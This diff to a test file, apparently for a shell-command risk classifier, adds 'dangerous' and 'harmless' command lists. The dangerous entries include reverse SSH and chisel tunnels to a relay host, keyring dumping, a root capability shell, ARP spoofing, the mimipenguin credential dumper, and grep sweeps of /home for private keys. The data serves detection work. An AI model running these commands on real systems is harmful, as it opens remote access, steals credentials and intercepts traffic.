@@ -240,6 +240,36 @@ const FAMILIES: Record<string, { dangerous: string[]; harmless: string[] }> = {
       "docker swarm join-token worker -q",
     ],
   },
+  "remote access in, the kernel's keys and code": {
+    dangerous: [
+      "ngrok tcp 22",
+      "relayctl http 8080",
+      "chisel client relay.example.net:8000 R:socks",
+      "ssh -R 2222:localhost:22 relay.example.net",
+      "ssh -fNR 9000:127.0.0.1:5432 relay.example.net",
+      "keyctl print 912345",
+      "keyctl clear @u",
+      "capsh --uid=0 --gid=0 --",
+      "bpftool prog load probe.o /sys/fs/bpf/probe",
+    ],
+    harmless: [
+      "ssh -L 5432:localhost:5432 db.example.com",
+      "gdb ./build/app",
+      "keyctl show @u",
+      "capsh --print",
+      "bpftool prog show",
+      "relayctl status",
+    ],
+  },
+  // a live capture (`tcpdump -i any`) and a debugger attached (`gdb -p`) stay medium: earlier sets decided so
+  "traffic intercepted, credentials dumped": {
+    dangerous: ["ettercap -T -M arp /10.0.0.1//", "arpspoof -i eth0 -t 10.0.0.2 10.0.0.1", "mimipenguin"],
+    harmless: ["ettercap --help", "tcpdump -r capture.pcap", "gdb -p 4242"],
+  },
+  "searches for keys over every home": {
+    dangerous: ["grep -rl 'BEGIN OPENSSH PRIVATE KEY' /home", "rg -l AKIA /Users"],
+    harmless: ["grep -rl TODO src/", "rg -l AKIA docs/"],
+  },
 };
 
 beforeAll(() => loadShellParser());
